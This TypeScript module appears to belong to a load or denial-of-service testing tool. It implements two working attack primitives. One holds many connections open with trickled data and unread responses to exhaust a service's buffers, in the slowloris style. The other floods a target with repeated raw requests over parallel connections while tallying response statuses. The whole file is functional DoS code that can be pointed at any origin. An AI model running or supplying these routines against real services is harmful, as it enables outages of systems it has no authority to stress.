import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** Each attack opens at most this many connections at a time. */
export const MAX_CONNECTIONS = 1_000;

/** Connections that the service closed are dialled again at this interval, and only so many of them at a time. */
const DIAL_INTERVAL_MS = 50;
const MAX_DIALS_PER_INTERVAL = 100;

/** A connection that was refused at once is tried again after this wait, so that an attack does not only dial. */
const REDIAL_DELAY_MS = 10;

/** Where an attack goes, for how long, and what came of it so far. */
export type Aim = { readonly origin: string; readonly durationMs: number; readonly seen: Seen };

/** How many connections an attack has opened, and the responses that came first on each, by status. */
export type Seen = { connections: number; readonly byStatus: Record<string, number> };

export const nothingSeen = (): Seen => ({ connections: 0, byStatus: {} });

/** One connection of an attack: what is sent first, and then at each interval. */
export type Connection = {
  readonly first: string;
  /** Sent again and again until the end; undefined sends nothing more. */
  readonly after?: { readonly text: string; readonly everyMs: number };
  /** Responses are left unread, so that they fill the buffers of the service. */
  readonly unread?: boolean;
};

/** Keeps `count` connections of this kind open until the end; dials again where the service has closed one. */
export async function hold(aim: Aim, count: number, connection: Connection): Promise<void> {
  const endsAt = performance.now() + aim.durationMs;
  const open = new Set<Socket>();
  while (performance.now() < endsAt) {
    const missing = Math.min(count - open.size, MAX_DIALS_PER_INTERVAL);
    for (let dialled = 0; dialled < missing; dialled += 1) {
      const socket = dial(aim, connection);
      open.add(socket);
      socket.once('close', () => open.delete(socket));
    }
    await wait(DIAL_INTERVAL_MS);
  }
  for (const socket of open) socket.destroy();
}

/** Sends these requests one after the other, each on a connection of its own, `connections` of them at a time. */
export async function flood(aim: Aim, connections: number, requests: readonly string[]): Promise<void> {
  const endsAt = performance.now() + aim.durationMs;
  let next = 0;
  const repeat = async () => {
    while (performance.now() < endsAt) {
      const first = requests[next++ % requests.length] ?? '';
      const began = performance.now();
      const socket = dial(aim, { first });
      const giveUp = setTimeout(() => socket.destroy(), Math.max(0, endsAt - began));
      await new Promise((resolve) => socket.once('close', resolve));
      clearTimeout(giveUp);
      if (performance.now() - began < REDIAL_DELAY_MS) await wait(REDIAL_DELAY_MS);
    }
  };
  await Promise.all(Array.from({ length: connections }, repeat));
}

function dial({ origin, seen }: Aim, { first, after, unread = false }: Connection): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect(Number(port), hostname);
  socket.once('connect', () => {
    seen.connections += 1;
  });
  socket.on('error', () => socket.destroy());
  if (!unread) {
    socket.once('data', (data: Buffer) => {
      const status = data.toString('latin1', 9, 12);
      seen.byStatus[status] = (seen.byStatus[status] ?? 0) + 1;
    });
  }
  socket.write(first, 'latin1');
  if (after !== undefined) {
    const sending = setInterval(() => socket.write(after.text, 'latin1'), after.everyMs);
    socket.once('close', () => clearInterval(sending));
  }
  return socket;
}
